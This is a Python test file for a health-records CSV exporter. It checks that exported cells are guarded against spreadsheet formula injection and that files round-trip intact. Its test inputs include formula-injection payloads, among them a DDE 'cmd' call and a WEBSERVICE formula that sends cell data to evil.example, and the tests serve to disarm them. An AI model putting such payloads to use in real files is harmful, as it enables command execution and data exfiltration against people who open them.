"""The file given back can be posted again, and opened in a spreadsheet without harm."""

import csv
import io
import re
from collections.abc import Sequence
from datetime import date
from functools import partial

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.records.domain.dose import ValidDose
from services.records.domain.parse_row import parse_row
from services.records.domain.row_error import RowError
from services.records.uploads.formats import InputRow
from services.records.uploads.formats.columns import HEADERS, VERSION
from services.records.uploads.formats.csv_writer import ExportRow, header, written
from services.records.uploads.formats.formula_guard import guarded, unguarded
from services.records.uploads.formats.header_spellings import ACCEPT, ANSWER_HEADERS, DOSE_ID
from tests.support.files import csv_file, read
from tests.support.files import typed as day_first
from tests.support.paths import SHARED, needs_shared

typed = partial(day_first, date_of_birth="1980-05-03", date_given="2021-10-12")

HARD = [
    typed(1, full_name='Lê "Bảo", Tú; x\ty'),
    typed(2, personal_id="-", phone="+84912000000"),
    typed(3, full_name="=HYPERLINK(1)", lot="@x", source_id="-7"),
    typed(4, full_name="'=quoted", phone="''+1"),
    typed(5, full_name="H'Hen Niê", personal_id="012345678901", passport_number="P123"),
    typed(6, full_name="'Y Thắng"),
]


def cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


async def test_the_reader_takes_the_file_again_unchanged() -> None:
    body = header() + written(ExportRow(raw, "needs_correction", (), "=1") for raw in HARD)
    assert [row.raw for row in await read(body)] == HARD


def test_no_cell_runs_as_a_formula() -> None:
    answers = [ExportRow(raw, "rejected", (), "=cmd|' /C calc'!A0") for raw in HARD]
    assert [
        cell
        for line in cells(header() + written(answers))
        for cell in line
        if cell[:1] in tuple("=+-@")
    ] == []


# what separates, what hides a sign, signs, and a letter
piece = st.text(st.sampled_from(",;\t\r\n \u00a0\u3000\"'=+-@＝＋－＠aấ1"), max_size=12)
SIGNS = tuple("=+-@＝＋－＠")


@given(piece)
def test_the_guard_is_taken_off_exactly(text: str) -> None:
    assert unguarded(guarded(text)) == text


@given(piece, piece)
def test_no_piece_runs_as_a_formula_however_a_spreadsheet_takes_the_file_apart(
    name: str, lot: str
) -> None:
    text = written(
        [ExportRow(typed(source_id=name, full_name=name, lot=lot), "rejected", (), name)]
    ).decode()
    assert [
        cell
        for line in cells(text.encode())
        for cell in line
        if cell.strip(' "\u00a0\u3000').startswith(SIGNS)
    ] == []
    # with another separator, or none that knows of quotation marks
    for separator in ",;\t":
        pieces = re.split(rf"[{separator}\r\n]", text)
        assert [one for one in pieces if one.strip(' "\u00a0\u3000').startswith(SIGNS)] == []


@given(piece, piece)
async def test_a_file_that_was_guarded_is_read_as_it_was(name: str, lot: str) -> None:
    raw = typed(full_name=name.strip(), lot=lot.strip())
    assert [
        row.raw for row in await read(header() + written([ExportRow(raw, "rejected", (), name)]))
    ] == [raw]


def test_a_formula_behind_another_separator_is_disarmed() -> None:
    name = "Lê A;http://evil.example/?x=;=WEBSERVICE(B2&A2)"
    assert (
        cells(written([ExportRow(typed(full_name=name), "cần sửa")]))[0][1]
        == "Lê A;http://evil.example/?x=;'=WEBSERVICE(B2&A2)"
    )


def test_the_answer_stands_behind_the_row() -> None:
    errors = (
        RowError("lot", "LOT_MISSING", "Thiếu số lô.", "x"),
        RowError("", "X", "Dòng hỏng.", "x"),
    )
    head, line = cells(
        header() + written([ExportRow(typed(), "rejected", errors, "068180000002", "3", "501")])
    )
    assert head == [*HEADERS.values(), *ANSWER_HEADERS, ACCEPT, VERSION, DOSE_ID] == [
        *head[:-6], "Trạng thái", "Lỗi", "Gợi ý", "Nhận gợi ý", "Phiên bản bản ghi", "Mã hệ thống",
    ]  # fmt: skip
    told = "Số lô: Thiếu số lô.; Dòng hỏng."
    assert line[-6:] == ["rejected", told, "068180000002", "", "3", "501"]


@pytest.mark.parametrize(
    ("cells_left", "version", "dose_id"), [(6, "3", "501"), (5, "3", ""), (4, "", ""), (0, "", "")]
)
async def test_the_version_is_read_back_and_a_spreadsheet_may_have_cut_it_off_with_the_answer(
    cells_left: int, version: str, dose_id: str
) -> None:
    head, line = cells(
        header() + written([ExportRow(typed(), "cần sửa", version=" 3 ", dose_id="501")])
    )
    text = io.StringIO(newline="")
    csv.writer(text).writerows([head, line[: len(HEADERS) + cells_left]])
    [row] = await read(text.getvalue().encode())
    assert (row.raw, row.version, row.dose_id) == (typed(), version, dose_id)


def test_spreadsheets_know_the_encoding_by_its_mark() -> None:
    assert header().startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("broken", ["Lê\ud800", "Lê\udcff"])
def test_what_is_no_unicode_is_written_as_a_question_mark(broken: str) -> None:
    assert cells(written([ExportRow(typed(full_name=broken), "rejected")]))[0][1] == "Lê?"


async def test_an_apostrophe_that_a_clinic_typed_before_a_formula_is_taken_off_once_only() -> None:
    once = [row.raw for row in await read(csv_file([typed(phone="'+84912000000")]))]
    assert [raw and raw.phone for raw in once] == ["+84912000000"]
    again = header() + written(ExportRow(raw, "") for raw in once if raw)
    assert [row.raw for row in await read(again)] == once


@pytest.mark.parametrize(
    ("birth", "written_birth"),
    [("03/05/1980", "1980-05-03"), ("5-3-1980", "1980-03-05"), ("05/1970", "1970-05"), ("1970",
    "1970"), ("30/02/1950", "30/02/1950"),
     ("", ""), ("**/**/1980", "**/**/1980"), ("3/5/80", "3/5/80")],
)  # fmt: skip
def test_dates_go_out_as_every_spreadsheet_reads_them_and_what_is_no_date_as_typed(
    birth: str, written_birth: str
) -> None:
    [line] = cells(
        written([ExportRow(day_first(date_of_birth=birth, date_given="05.10.2021"), "")])
    )
    assert (line[2], line[list(HEADERS).index("date_given")]) == (written_birth, "2021-10-05")


@needs_shared
async def test_the_whole_sample_goes_out_and_in_again_unchanged() -> None:
    first = await read((SHARED / "sample" / "doses.csv").read_bytes())
    again = await read(header() + written(ExportRow(row.raw, "issued") for row in first if row.raw))
    assert len(again) == len(first)
    assert [dose(row) for row in again] == [dose(row) for row in first]


def dose(row: InputRow) -> ValidDose | Sequence[RowError]:
    assert row.raw is not None
    read = parse_row(row.raw, today=date(2022, 6, 1), facilities=None)
    return read.dose or read.errors
